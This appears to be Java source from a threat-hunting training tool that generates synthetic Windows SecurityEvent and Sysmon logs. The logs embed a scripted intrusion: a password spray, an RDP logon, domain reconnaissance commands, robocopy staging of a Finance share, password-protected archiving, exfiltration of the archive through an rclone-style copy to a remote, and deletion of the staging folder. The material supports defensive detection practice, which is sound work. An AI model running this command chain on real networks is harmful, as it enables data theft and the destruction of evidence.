package io.huntbook.data.sample;

import io.huntbook.data.sample.Organisation.Host;
import io.huntbook.data.sample.Organisation.User;
import io.huntbook.data.sample.ProcessCatalog.Template;
import io.huntbook.data.sample.TableSink.Col;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.sql.Connection;
import java.sql.SQLException;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.UUID;
import org.jspecify.annotations.Nullable;

/**
 * Windows telemetry: the {@code SecurityEvent} table (4688 process creation, 4624 logons, 4625 failed logons, with
 * Microsoft Sentinel's column names; ids in hex as Windows writes them) and the {@code SysmonEvent} table (Sysmon
 * event 1 for the hosts that run Sysmon). Process trees hold together: every process has a parent that started
 * before it on the same host, and every user process carries the logon id of its logon event.
 */
final class WindowsEvents {
    static final String SECURITY_EVENT = "SecurityEvent";
    static final String SYSMON_EVENT = "SysmonEvent";

    static final List<Col> SECURITY_COLUMNS = List.of(
            new Col("TenantId", "VARCHAR"), new Col("TimeGenerated", "TIMESTAMP"), new Col("SourceSystem", "VARCHAR"),
            new Col("Computer", "VARCHAR"), new Col("EventSourceName", "VARCHAR"), new Col("Channel", "VARCHAR"),
            new Col("Task", "BIGINT"), new Col("EventID", "BIGINT"), new Col("Activity", "VARCHAR"),
            new Col("Account", "VARCHAR"), new Col("AccountType", "VARCHAR"),
            new Col("SubjectUserSid", "VARCHAR"), new Col("SubjectUserName", "VARCHAR"),
            new Col("SubjectDomainName", "VARCHAR"), new Col("SubjectLogonId", "VARCHAR"),
            new Col("TargetUserSid", "VARCHAR"), new Col("TargetUserName", "VARCHAR"),
            new Col("TargetDomainName", "VARCHAR"), new Col("TargetLogonId", "VARCHAR"),
            new Col("LogonType", "BIGINT"), new Col("LogonTypeName", "VARCHAR"), new Col("LogonProcessName", "VARCHAR"),
            new Col("AuthenticationPackageName", "VARCHAR"), new Col("WorkstationName", "VARCHAR"),
            new Col("IpAddress", "VARCHAR"), new Col("IpPort", "VARCHAR"), new Col("Status", "VARCHAR"),
            new Col("SubStatus", "VARCHAR"), new Col("FailureReason", "VARCHAR"),
            new Col("NewProcessId", "VARCHAR"), new Col("NewProcessName", "VARCHAR"), new Col("ProcessId", "VARCHAR"),
            new Col("ProcessName", "VARCHAR"), new Col("CommandLine", "VARCHAR"),
            new Col("ParentProcessName", "VARCHAR"), new Col("TokenElevationType", "VARCHAR"),
            new Col("MandatoryLabel", "VARCHAR"), new Col("SourceComputerId", "VARCHAR"));

    static final List<Col> SYSMON_COLUMNS = List.of(
            new Col("TimeGenerated", "TIMESTAMP"), new Col("Computer", "VARCHAR"), new Col("Source", "VARCHAR"),
            new Col("EventID", "BIGINT"), new Col("UtcTime", "VARCHAR"), new Col("ProcessGuid", "VARCHAR"),
            new Col("ProcessId", "BIGINT"), new Col("Image", "VARCHAR"), new Col("OriginalFileName", "VARCHAR"),
            new Col("CommandLine", "VARCHAR"), new Col("CurrentDirectory", "VARCHAR"), new Col("User", "VARCHAR"),
            new Col("LogonGuid", "VARCHAR"), new Col("LogonId", "VARCHAR"), new Col("TerminalSessionId", "BIGINT"),
            new Col("IntegrityLevel", "VARCHAR"), new Col("Hashes", "VARCHAR"), new Col("ParentProcessGuid", "VARCHAR"),
            new Col("ParentProcessId", "BIGINT"), new Col("ParentImage", "VARCHAR"),
            new Col("ParentCommandLine", "VARCHAR"), new Col("ParentUser", "VARCHAR"));

    private static final String SYSTEM_SID = "S-1-5-18";
    private static final String SYSTEM_LOGON_ID = "0x3e7";
    private static final DateTimeFormatter SYSMON_TIME = DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss.SSS")
            .withZone(ZoneOffset.UTC);

    /** A logon session: a user's (or SYSTEM's, when {@code user} is null). */
    record Session(@Nullable User user, String logonId, String logonGuid, long terminalSession) {}

    /** A running process, as its children see it. */
    record Proc(String image, long pid, String guid, String commandLine, Session session) {}

    private final Organisation org;
    private final Story story;
    private final SampleOptions options;
    private final TableSink security;
    private final TableSink sysmon;
    private final Map<String, String> hashes = new HashMap<>();
    private final Map<String, Long> lastPid = new HashMap<>();
    private SplittableRandom random;

    WindowsEvents(Connection db, Organisation org, Story story, SampleOptions options, SplittableRandom random)
            throws SQLException {
        this.org = org;
        this.story = story;
        this.options = options;
        this.random = random;
        this.security = new TableSink(db, SECURITY_EVENT, SECURITY_COLUMNS, "Computer, TimeGenerated");
        this.sysmon = new TableSink(db, SYSMON_EVENT, SYSMON_COLUMNS, "Computer, TimeGenerated");
    }

    List<TableSink> sinks() {
        return List.of(security, sysmon);
    }

    /** Writes the story, then background activity up to the requested number of process events. */
    void write() throws SQLException {
        SplittableRandom background = random;
        random = new SplittableRandom(0x5EED_0001L);
        writeStory();
        random = background;
        long storyProcesses = processEvents;
        writeBackground(Math.max(0, options.processEvents() - storyProcesses));
        security.close();
        sysmon.close();
    }

    private long processEvents;

    // ---------------------------------------------------------------------------------------------- the story

    private void writeStory() {
        Host ws = org.host(Story.HOST);
        User megan = ws.owner();
        Host web = org.host("WEB01");
        Instant t = story.sprayStart();
        for (int i = 0; i < 14; i++) {
            User target = org.users.get((i * 5) % org.users.size());
            failedLogon(web, t.plusSeconds(i * 97L + random.nextInt(30)), target, 3, Story.SPRAY_IP, "kali");
        }
        Map<String, Proc> boot = bootProcesses(ws);
        Session session = new Session(megan, Story.LOGON_ID, guid(), 2);
        logon(ws, story.rdpLogon(), megan, 10, Story.LOGON_ID, Story.ATTACKER_IP, "DESKTOP-7Q1K3FJ");
        Proc userinit = start(ws, story.rdpLogon().plusSeconds(3), ProcessCatalog.USERINIT, "C:\\Windows\\system32\\userinit.exe",
                boot.get(ProcessCatalog.WINLOGON), session);
        Proc explorer = start(ws, story.rdpLogon().plusSeconds(4), ProcessCatalog.EXPLORER,
                "C:\\Windows\\Explorer.EXE", userinit, session);
        start(ws, story.rdpLogon().plusSeconds(5), ProcessCatalog.SYSTEM32 + "rdpclip.exe", "rdpclip",
                boot.get(ProcessCatalog.SVCHOST), session);
        Proc cmd = start(ws, story.encodedPowerShell().minusSeconds(13), ProcessCatalog.CMD,
                "\"C:\\Windows\\system32\\cmd.exe\"", explorer, session);
        Proc stager = start(ws, story.encodedPowerShell(), ProcessCatalog.POWERSHELL, Story.STAGER_COMMAND_LINE, cmd,
                session);
        Instant recon = story.encodedPowerShell().plusSeconds(37);
        start(ws, recon, ProcessCatalog.SYSTEM32 + "whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all", stager, session);
        Proc net = start(ws, recon.plusSeconds(31), ProcessCatalog.SYSTEM32 + "net.exe",
                "\"C:\\Windows\\system32\\net.exe\" group \"Domain Admins\" /domain", stager, session);
        start(ws, recon.plusSeconds(31), ProcessCatalog.SYSTEM32 + "net1.exe",
                "C:\\Windows\\system32\\net1 group \"Domain Admins\" /domain", net, session);
        start(ws, recon.plusSeconds(55), ProcessCatalog.SYSTEM32 + "nltest.exe",
                "\"C:\\Windows\\system32\\nltest.exe\" /dclist:contoso.local", stager, session);
        start(ws, recon.plusSeconds(80), ProcessCatalog.SYSTEM32 + "ipconfig.exe",
                "\"C:\\Windows\\system32\\ipconfig.exe\" /all", stager, session);
        start(ws, recon.plusSeconds(112), ProcessCatalog.SYSTEM32 + "systeminfo.exe",
                "systeminfo.exe", stager, session);
        start(ws, story.at(2, 14, 48), ProcessCatalog.POWERSHELL, Story.DOWNLOAD_COMMAND_LINE, stager, session);
        Proc copy = start(ws, story.staging(), ProcessCatalog.CMD,
                "\"C:\\Windows\\system32\\cmd.exe\" /c robocopy \\\\FS01\\Finance " + Story.STAGING_FOLDER
                        + "\\Finance /E /R:0 /W:0 /NP", stager, session);
        start(ws, story.staging().plusSeconds(1), ProcessCatalog.SYSTEM32 + "Robocopy.exe",
                "robocopy  \\\\FS01\\Finance " + Story.STAGING_FOLDER + "\\Finance /E /R:0 /W:0 /NP", copy, session);
        logon(org.host("FS01"), story.staging().plusSeconds(1), megan, 3, hexId(), Story.HOST_IP, Story.HOST);
        start(ws, story.at(3, 32, 40), "C:\\Program Files\\7-Zip\\7z.exe",
                "\"C:\\Program Files\\7-Zip\\7z.exe\" a -mx9 -pInfected2024 " + Story.STAGING_FOLDER + "\\fin.7z "
                        + Story.STAGING_FOLDER + "\\Finance", stager, session);
        start(ws, story.exfiltrationStart().minusSeconds(5), Story.TOOL_PATH,
                Story.TOOL_PATH + " copy " + Story.STAGING_FOLDER + "\\fin.7z files:drop --config "
                        + "C:\\Users\\Public\\Libraries\\rc.conf --transfers 8 -q", stager, session);
        start(ws, story.at(4, 50, 10), ProcessCatalog.CMD,
                "\"C:\\Windows\\system32\\cmd.exe\" /c del /q /s " + Story.STAGING_FOLDER, stager, session);
    }

    // ---------------------------------------------------------------------------------------------- background

    private void writeBackground(long budget) {
        double totalWeight = 0;
        for (Host h : org.hosts) {
            totalWeight += weight(h);
        }
        long assigned = 0;
        int slots = org.hosts.size() * SampleOptions.DAYS;
        int slot = 0;
        for (int d = 0; d < SampleOptions.DAYS; d++) {
            LocalDate day = options.firstDay().plusDays(d);
            double cumulative = 0;
            for (Host h : org.hosts) {
                slot++;
                cumulative += weight(h);
                long target = Math.round(budget * ((d * totalWeight + cumulative) / (SampleOptions.DAYS * totalWeight)));
                long count = slot == slots ? budget - assigned : target - assigned;
                assigned += count;
                hostDay(h, day, count);
            }
        }
    }

    private static double weight(Host h) {
        return h.server() ? 2.0 : 1.0;
    }

    private void hostDay(Host host, LocalDate day, long count) {
        Instant midnight = day.atStartOfDay().toInstant(ZoneOffset.UTC);
        Map<String, Proc> running = bootProcesses(host);
        Session system = new Session(null, SYSTEM_LOGON_ID, "{00000000-0000-0000-0000-000000000000}", 0);
        for (String image : ProcessCatalog.longLived(host)) {
            running.put(image, new Proc(image, pid(host), guid(), "\"" + image + "\"", system));
        }
        for (int i = 0; i < 3; i++) {
            logon(host, midnight.plusSeconds(random.nextInt(86_400)), null, 5, SYSTEM_LOGON_ID, "-", "-");
        }
        Session user = null;
        Instant start = midnight.plusSeconds(7 * 3600 + 30 * 60 + random.nextInt(7200));
        long remaining = count;
        if (!host.server()) {
            User owner = host.owner();
            if (random.nextInt(8) == 0) {
                failedLogon(host, start.minusSeconds(20 + random.nextInt(40)), owner, 2, "127.0.0.1", host.name());
            }
            String logonId = hexId();
            logon(host, start, owner, random.nextInt(4) == 0 ? 11 : 2, logonId, "127.0.0.1", host.name());
            user = new Session(owner, logonId, guid(), 1 + random.nextInt(2));
            for (int i = 0; i < 1 + random.nextInt(3); i++) {
                logon(host, start.plusSeconds(3600 + random.nextInt(7 * 3600)), owner, 7, hexId(), "127.0.0.1",
                        host.name());
            }
            networkLogons(host, owner, start);
            if (remaining >= 2) {
                Proc userinit = start(host, start.plusSeconds(2), ProcessCatalog.USERINIT,
                        "C:\\Windows\\system32\\userinit.exe", running.get(ProcessCatalog.WINLOGON), user);
                running.put(ProcessCatalog.EXPLORER, start(host, start.plusSeconds(3), ProcessCatalog.EXPLORER,
                        "C:\\Windows\\Explorer.EXE", userinit, user));
                remaining -= 2;
            }
        } else if (host.name().equals("FS01") || host.name().equals("APP01")) {
            logon(host, midnight.plusSeconds(3600 + random.nextInt(600)), org.user("PradeepG"), 4, hexId(), "-", "-");
        }
        List<Template> templates = templatesFor(host, user != null);
        double total = templates.stream().mapToDouble(Template::weight).sum();
        while (remaining > 0) {
            Template template = pick(templates, total);
            Session session = template.user() ? user : system;
            Instant when = template.user()
                    ? start.plusSeconds(5 + random.nextInt(9 * 3600))
                    : midnight.plusSeconds(random.nextInt(86_400));
            Proc parent = running.computeIfAbsent(template.parent(),
                    image -> new Proc(image, pid(host), guid(), "\"" + image + "\"", session));
            Proc proc = start(host, when, template.image(), commandLine(template, session), parent, session);
            remaining--;
            if (!template.children().isEmpty()) {
                int children = (int) Math.min(remaining, random.nextInt(template.maxChildren() + 1));
                for (int c = 0; c < children; c++) {
                    Template child = template.children().get(random.nextInt(template.children().size()));
                    start(host, when.plusMillis(300 + random.nextInt(20_000)), child.image(),
                            commandLine(child, session), proc, session);
                    remaining--;
                }
            }
        }
    }

    private void networkLogons(Host from, User user, Instant start) {
        Host fs = org.host("FS01");
        Host dc = org.host("DC01");
        for (int i = 0; i < 2 + random.nextInt(4); i++) {
            logon(fs, start.plusSeconds(60 + random.nextInt(9 * 3600)), user, 3, hexId(), from.ip(), from.name());
        }
        for (int i = 0; i < 1 + random.nextInt(3); i++) {
            logon(dc, start.plusSeconds(random.nextInt(9 * 3600)), user, 3, hexId(), from.ip(), from.name());
        }
        if (user.admin() && random.nextInt(2) == 0) {
            Host target = org.servers.get(random.nextInt(org.servers.size()));
            logon(target, start.plusSeconds(random.nextInt(8 * 3600)), user, 10, hexId(), from.ip(), from.name());
        }
    }

    private List<Template> templatesFor(Host host, boolean hasUser) {
        List<Template> out = new ArrayList<>();
        for (Template t : ProcessCatalog.ALL) {
            boolean fits = switch (t.where()) {
                case ANY -> true;
                case WORKSTATION -> !host.server();
                case SERVER -> host.server();
                case SQL01 -> host.name().equals("SQL01");
                case WEB01 -> host.name().equals("WEB01");
            };
            if (fits && (!t.user() || hasUser)) {
                out.add(t);
            }
        }
        return out;
    }

    private Template pick(List<Template> templates, double total) {
        double x = random.nextDouble() * total;
        for (Template t : templates) {
            x -= t.weight();
            if (x < 0) {
                return t;
            }
        }
        return templates.get(templates.size() - 1);
    }

    private String commandLine(Template t, @Nullable Session session) {
        String line = t.commandLines().get(random.nextInt(t.commandLines().size()));
        if (session != null && session.user() != null) {
            line = line.replace("%u", session.user().sam());
        }
        while (line.contains("%d")) {
            line = line.replaceFirst("%d", Integer.toString(1 + random.nextInt(40)));
        }
        return line;
    }

    private Map<String, Proc> bootProcesses(Host host) {
        Session system = new Session(null, SYSTEM_LOGON_ID, "{00000000-0000-0000-0000-000000000000}", 0);
        Map<String, Proc> running = new HashMap<>();
        for (String image : ProcessCatalog.BOOT) {
            running.put(image, new Proc(image, pid(host), guid(), image, system));
        }
        return running;
    }

    // ---------------------------------------------------------------------------------------------- rows

    private Proc start(Host host, Instant when, String image, String commandLine, Proc parent, Session session) {
        String resolvedImage = session.user() != null ? image.replace("%u", session.user().sam()) : image;
        Proc proc = new Proc(resolvedImage, pid(host), guid(), commandLine, session);
        User user = session.user();
        boolean system = user == null;
        security.row(Organisation.TENANT_ID, when, "OpsManager", host.fqdn(), "Microsoft-Windows-Security-Auditing",
                "Security", 13312L, 4688L, "4688 - A new process has been created.",
                system ? Organisation.DOMAIN + "\\" + host.machineAccount() : user.account(),
                system ? "Machine" : "User",
                system ? SYSTEM_SID : user.sid(), system ? host.machineAccount() : user.sam(), Organisation.DOMAIN,
                session.logonId(), "S-1-0-0", "-", "-", "0x0",
                null, null, null, null, null, null, null, null, null, null,
                hex(proc.pid()), resolvedImage, hex(parent.pid()), null, commandLine, parent.image(),
                system ? "%%1936" : "%%1938", system ? "S-1-16-16384" : "S-1-16-8192",
                Organisation.uuidOf("computer-" + host.name()));
        if (host.sysmon()) {
            sysmon.row(when.plusMillis(1), host.fqdn(), "Microsoft-Windows-Sysmon", 1L, SYSMON_TIME.format(when),
                    proc.guid(), proc.pid(), resolvedImage, fileName(resolvedImage), commandLine,
                    system ? "C:\\Windows\\system32\\" : "C:\\Users\\" + user.sam() + "\\",
                    system ? "NT AUTHORITY\\SYSTEM" : user.account(), session.logonGuid(), session.logonId(),
                    session.terminalSession(), system ? "System" : "Medium",
                    "SHA256=" + hash(resolvedImage), parent.guid(), parent.pid(), parent.image(),
                    parent.commandLine(), parent.session().user() == null ? "NT AUTHORITY\\SYSTEM"
                            : parent.session().user().account());
        }
        processEvents++;
        return proc;
    }

    private void logon(Host host, Instant when, @Nullable User user, int type, String logonId, String ip,
            String workstation) {
        boolean system = user == null;
        boolean network = type == 3 || type == 10;
        security.row(Organisation.TENANT_ID, when, "OpsManager", host.fqdn(), "Microsoft-Windows-Security-Auditing",
                "Security", 12544L, 4624L, "4624 - An account was successfully logged on.",
                system ? "NT AUTHORITY\\SYSTEM" : user.account(), system ? "Machine" : "User",
                SYSTEM_SID, host.machineAccount(), Organisation.DOMAIN, SYSTEM_LOGON_ID,
                system ? SYSTEM_SID : user.sid(), system ? "SYSTEM" : user.sam(),
                system ? "NT AUTHORITY" : Organisation.DOMAIN, logonId,
                (long) type, logonTypeName(type), network ? "NtLmSsp " : system ? "Advapi  " : "User32 ",
                network ? (type == 3 && host.name().equals("DC01") ? "Kerberos" : "NTLM") : "Negotiate",
                workstation, ip, network ? Integer.toString(49152 + random.nextInt(16000)) : "0",
                null, null, null, null, null, "0x" + Long.toHexString(0x2c0 + 4L * random.nextInt(16)),
                system || type == 5 ? ProcessCatalog.SERVICES : ProcessCatalog.SYSTEM32 + "svchost.exe",
                null, null, null, null, Organisation.uuidOf("computer-" + host.name()));
    }

    private void failedLogon(Host host, Instant when, User user, int type, String ip, String workstation) {
        security.row(Organisation.TENANT_ID, when, "OpsManager", host.fqdn(), "Microsoft-Windows-Security-Auditing",
                "Security", 12544L, 4625L, "4625 - An account failed to log on.",
                user.account(), "User", "S-1-0-0", "-", "-", "0x0", "S-1-0-0", user.sam(), Organisation.DOMAIN,
                null, (long) type, logonTypeName(type), "NtLmSsp ", "NTLM", workstation, ip,
                Integer.toString(49152 + random.nextInt(16000)), "0xc000006d", "0xc000006a", "%%2313",
                null, null, "0x0", "-", null, null, null, null, Organisation.uuidOf("computer-" + host.name()));
    }

    private static String logonTypeName(int type) {
        return switch (type) {
            case 2 -> "2 - Interactive";
            case 3 -> "3 - Network";
            case 4 -> "4 - Batch";
            case 5 -> "5 - Service";
            case 7 -> "7 - Unlock";
            case 10 -> "10 - RemoteInteractive";
            case 11 -> "11 - CachedInteractive";
            default -> type + " - Other";
        };
    }

    // ---------------------------------------------------------------------------------------------- ids

    private long pid(Host host) {
        long next = lastPid.getOrDefault(host.name(), 0x200L + 4L * random.nextInt(256)) + 4L * (1 + random.nextInt(48));
        if (next > 0xFFFC) {
            next = 0x200 + 4L * random.nextInt(64);
        }
        lastPid.put(host.name(), next);
        return next;
    }

    private String hexId() {
        return "0x" + Long.toHexString(0x100000L + random.nextInt(0x0FFFFFFF));
    }

    private String guid() {
        return "{" + new UUID(random.nextLong(), random.nextLong()).toString().toUpperCase(Locale.ROOT) + "}";
    }

    private static String hex(long value) {
        return "0x" + Long.toHexString(value);
    }

    private static String fileName(String image) {
        return image.substring(image.lastIndexOf('\\') + 1);
    }

    /** A stable made-up SHA-256 per image path; the exfiltration tool gets the story's hash. */
    private String hash(String image) {
        if (image.equals(Story.TOOL_PATH)) {
            return Story.TOOL_SHA256.toUpperCase(Locale.ROOT);
        }
        return hashes.computeIfAbsent(image.toLowerCase(Locale.ROOT), key -> {
            try {
                byte[] digest = MessageDigest.getInstance("SHA-256").digest(key.getBytes(StandardCharsets.UTF_8));
                return HexFormat.of().withUpperCase().formatHex(digest);
            } catch (NoSuchAlgorithmException e) {
                throw new IllegalStateException(e);
            }
        });
    }
}
